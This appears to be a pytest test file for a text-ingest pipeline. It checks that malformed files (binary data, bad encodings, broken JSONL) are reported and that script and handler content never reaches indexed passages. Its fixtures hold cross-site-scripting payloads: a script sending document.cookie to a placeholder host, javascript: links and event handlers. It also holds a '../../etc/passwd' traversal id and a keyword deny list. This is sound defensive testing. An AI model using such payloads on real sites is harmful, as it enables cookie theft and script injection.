"""Hostile and broken files in the library: ingest reads what it can, names each problem by
file (and line), and nothing from a script, style or event handler reaches a passage."""

from __future__ import annotations

import codecs
import json
import random
from pathlib import Path

import pytest

from backqa.index.loaded import load_current
from backqa.ingest.pipeline import IngestPipeline
from backqa.ingest.summary import IngestSummary
from helpers import FakeEncoder, fake_cli

MARK = "evilpayload"  # appears only inside scripts, styles, handlers and javascript: URLs
PROSE = ("Runners with lower back pain often have weak glutes and tight hip flexors. "
         "A gradual return to running, with strength work twice a week, usually helps. ")


def hostile_html() -> str:
    return f"""<!doctype html>
<html><head><title>Hip flexors and back pain</title>
<script>var {MARK} = document.cookie; fetch('//x/?' + {MARK});</script>
<style>body::after {{ content: "{MARK}" }}</style>
<meta http-equiv="refresh" content="0; url=javascript:{MARK}()">
<base href="javascript:{MARK}//">
</head>
<body onload="{MARK}()">
<main>
<h1 onmouseover="{MARK}()">Hip flexors and back pain</h1>
<p onclick="alert('{MARK}')">{PROSE}</p>
<p>Read the <a href="javascript:alert('{MARK}')" onfocus="{MARK}()">stretching guide</a>
and the <a href="JaVaScRiPt:{MARK}">core routine</a> before your next long run.</p>
<img src="x" onerror="{MARK}()" alt="a runner">
<svg onload="{MARK}()"><script>{MARK}()</script><text>{MARK}</text></svg>
<iframe src="javascript:{MARK}()" srcdoc="<script>{MARK}()</script>"></iframe>
<noscript>{MARK}</noscript><template><p>{MARK}</p></template>
<object data="javascript:{MARK}"></object><embed src="javascript:{MARK}">
<form action="javascript:{MARK}()"><input value="{MARK}"><button>{MARK}</button></form>
<p>Escaped markup is text: &lt;b&gt;bold&lt;/b&gt; stays visible as written.</p>
<script type="module">import {{ {MARK} }} from "/x.js";</script>
<p>{PROSE}</p>
<!-- {MARK} -->
</main></body></html>
"""


def hostile_markdown() -> str:
    return f"""# Core work for runners

{PROSE}

<script>alert("{MARK}")</script>
<div onclick="{MARK}()">Planks and side planks build the trunk endurance runners need.</div>

See [the glute bridge video](javascript:alert('{MARK}')) and
[a safe link](https://example.org/bridges) for more.

<img src=x onerror="{MARK}()">
<style>.x {{ background: url("javascript:{MARK}") }}</style>
<!-- {MARK} -->
<SCRIPT>{MARK}</SCRIPT>

{PROSE}
"""


def broken_jsonl() -> str:
    good = [{"_id": "good-1", "title": "Stride", "text": PROSE + "Cadence matters."},
            {"_id": 2, "title": "Shoes", "text": PROSE + "Shoes matter less than load."},
            {"_id": "good-3", "text": PROSE + "Sleep is part of training."}]
    lines = [json.dumps(good[0]),
             '{"_id": "cut-off", "text": "this line ends in the mid',
             "[1, 2, 3]",
             json.dumps({"title": "no id", "text": PROSE}),
             json.dumps({"_id": "../../etc/passwd", "text": PROSE}),
             json.dumps({"_id": "good-1", "text": "a duplicate id"}),
             json.dumps({"_id": "empty", "text": "   "}),
             json.dumps({"_id": "number-text", "text": 42}),
             json.dumps({"_id": "bad-title", "title": ["x"], "text": PROSE}),
             "",
             "not json at all",
             json.dumps(good[1]),
             "\x00\x01\x02",
             json.dumps(good[2])]
    text = "\n".join(lines) + "\n"
    # line 15: invalid UTF-8; line 16: a record whose text holds U+2028 and U+0085 raw
    return (text.encode() + b'{"_id": "bad-bytes", "text": "\xff\xfe"}\n'
            + json.dumps({"_id": "line-separators", "text": PROSE + "a\u2028b\u0085c"},
                         ensure_ascii=False).encode() + b"\n")


def write_hostile_library(folder: Path) -> dict[str, bytes]:
    rng = random.Random(3)
    latin1 = ("Café au lait before a run? Naïve runners over-stride; the résumé of a "
              "physio says: strengthen, don't stretch only. " * 3)
    files: dict[str, bytes] = {
        "empty.txt": b"",
        "blank.md": b"  \n\n\t \n",
        "binary.txt": bytes(rng.randrange(256) for _ in range(4096)) + b"\x00" * 16,
        "png-named.html": b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 4,
        "random-bytes.md": bytes(rng.randrange(128, 256) for _ in range(4096)),
        "invalid-utf8.txt": (PROSE * 3).encode() + b"\xff\xfe broken \xc3\x28 bytes. " +
                            PROSE.encode(),
        "latin1.txt": latin1.encode("latin-1"),
        "utf16-le-bom.txt": codecs.BOM_UTF16_LE + (PROSE * 3).encode("utf-16-le"),
        "utf16-be-bom.md": codecs.BOM_UTF16_BE + ("# Sixteen\n\n" + PROSE * 3).encode(
            "utf-16-be"),
        "utf8-bom.txt": codecs.BOM_UTF8 + (PROSE * 2).encode(),
        "bad-bom-utf16.txt": codecs.BOM_UTF16_LE + b"\x00\xd8",  # a lone surrogate
        "only-chrome.txt": b"Share\nTweet\nClose\n0 LIKES\nReport\n",
        "no-body.html": b"<html><head><title>Nothing</title></head></html>",
        "hostile.html": hostile_html().encode(),
        "hostile-markdown.md": hostile_markdown().encode(),
        "broken.jsonl": broken_jsonl(),
        "bad-meta.txt": PROSE.encode(),
        "bad-meta.meta.toml": b'title = "unclosed\n',
        "control-chars.txt": ("\x07\x08" + PROSE + "\x1b[31m red \x1b[0m" + PROSE).encode(),
        "spaces and ünïcödé name.md": ("# Ünïcödé\n\n" + PROSE * 2).encode(),
        "crlf.txt": (PROSE + "\r\n\r\n" + PROSE).encode(),
    }
    folder.mkdir(parents=True, exist_ok=True)
    for name, data in files.items():
        (folder / name).write_bytes(data)
    return files


SKIPPED = {  # file -> words its problem message must contain
    "empty.txt": "empty", "blank.md": "empty", "binary.txt": "binary",
    "png-named.html": "binary", "random-bytes.md": "not text", "bad-bom-utf16.txt": "utf-16",
    "only-chrome.txt": "no text left", "no-body.html": "no <body>",
    "bad-meta.txt": "not valid toml",
}
WARNED = {"invalid-utf8.txt": "windows-1252", "latin1.txt": "windows-1252"}
JSONL_LINES = {2: "invalid json", 3: "json object", 4: "_id", 5: "_id", 6: "duplicate",
               7: "text", 8: "text", 9: "title", 11: "invalid json", 13: "invalid json",
               15: "utf-8"}


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, IngestSummary]:
    base = tmp_path_factory.mktemp("hostile")
    write_hostile_library(base / "library")
    summary = IngestPipeline(base / "index", base, encoder_factory=FakeEncoder,
                             identity=FakeEncoder.identity, progress=False,
                             log=lambda _m: None).ingest([base / "library"])
    return base, summary


def test_every_unreadable_file_is_named_with_its_reason(
        hostile: tuple[Path, IngestSummary]) -> None:
    _, summary = hostile
    by_file: dict[str, list[str]] = {}
    for problem in summary.problems:
        key = Path(problem.path).name + (f":{problem.line}" if problem.line else "")
        by_file.setdefault(key, []).append(f"{problem.message} ({problem.skipped})")
    for name, reason in SKIPPED.items():
        messages = " ".join(by_file.get(name, [])).lower()
        assert reason in messages and "true" in messages, (name, by_file.get(name))
    for name, reason in WARNED.items():
        messages = " ".join(by_file.get(name, [])).lower()
        assert reason in messages and "false" in messages, (name, by_file.get(name))
    for line, reason in JSONL_LINES.items():
        messages = " ".join(by_file.get(f"broken.jsonl:{line}", [])).lower()
        assert reason in messages, (line, by_file)
    expected = len(SKIPPED) + len(WARNED) + len(JSONL_LINES)
    assert len(summary.problems) == expected, summary.problems


def test_what_can_be_read_is_ingested(hostile: tuple[Path, IngestSummary]) -> None:
    base, summary = hostile
    assert summary.version is not None
    index = load_current(base / "index")
    texts = {s.id: index.store.source_text(s.id) or "" for s in index.store.sources()}
    assert set(texts) == {
        "invalid-utf8", "latin1", "utf16-le-bom", "utf16-be-bom", "utf8-bom", "hostile",
        "hostile-markdown", "control-chars", "spaces-and-n-c-d-name", "crlf",
        "good-1", "2", "good-3", "line-separators"}
    assert "Café au lait" in texts["latin1"] and "résumé" in texts["latin1"]
    assert "weak glutes" in texts["utf16-le-bom"] and "Sixteen" in texts["utf16-be-bom"]
    assert "broken" in texts["invalid-utf8"] and "\ufeff" not in texts["utf8-bom"]
    assert "\x1b" not in texts["control-chars"] and "\x07" not in texts["control-chars"]
    assert "Cadence matters" in texts["good-1"] and "Sleep is part" in texts["good-3"]
    assert "stretching guide" in texts["hostile"] and "core routine" in texts["hostile"]
    assert "<b>bold</b>" in texts["hostile"]  # escaped markup is text, kept as written
    assert "Planks and side planks" in texts["hostile-markdown"]


def test_nothing_from_scripts_or_handlers_reaches_a_passage(
        hostile: tuple[Path, IngestSummary]) -> None:
    base, _ = hostile
    index = load_current(base / "index")
    rows = list(range(index.passage_count))
    passages = index.store.passages_by_rows(rows).values()
    assert passages
    for passage in passages:
        for text in (passage.text, passage.embed_text):
            lowered = text.lower()
            assert MARK not in lowered, text
            for bad in ("<script", "javascript:", "onerror", "onclick", "onload", "<style",
                        "<iframe", "<!--"):
                assert bad not in lowered, (bad, text)
    for source in index.store.sources():
        assert MARK not in (index.store.source_text(source.id) or "").lower()
        assert MARK not in source.title.lower()
    markdown = [p for p in passages if p.source_id == "hostile-markdown"]
    joined = " ".join(p.text for p in markdown)
    assert "Planks and side planks" in joined and "the glute bridge video" in joined
    assert "https://example.org/bridges" in joined  # ordinary links are left alone


def test_cli_reports_problems_and_exits_1(tmp_path: Path) -> None:
    write_hostile_library(tmp_path / "library")
    proc = fake_cli(["ingest", str(tmp_path / "library"), "--index", str(tmp_path / "index"),
                     "--json"], tmp_path)
    stdout, stderr = proc.communicate(timeout=120)
    assert proc.returncode == 1, stderr  # something was skipped: exit 1, not a crash
    assert "Traceback" not in stderr
    assert "binary.txt" in stderr and "broken.jsonl:2" in stderr
    summary = json.loads(stdout)
    assert summary["version"] and summary["skipped"] == len(SKIPPED) + len(JSONL_LINES)


def test_two_sources_with_one_id_keep_the_first(tmp_path: Path) -> None:
    library = tmp_path / "library"
    (library / "a").mkdir(parents=True)
    (library / "b").mkdir()
    (library / "a" / "same-name.txt").write_text(PROSE)
    (library / "b" / "same-name.md").write_text("# Other\n\n" + PROSE)
    summary = IngestPipeline(tmp_path / "index", tmp_path, encoder_factory=FakeEncoder,
                             identity=FakeEncoder.identity, progress=False).ingest([library])
    assert summary.added == ["same-name"]
    assert any("already used" in p.message for p in summary.problems)
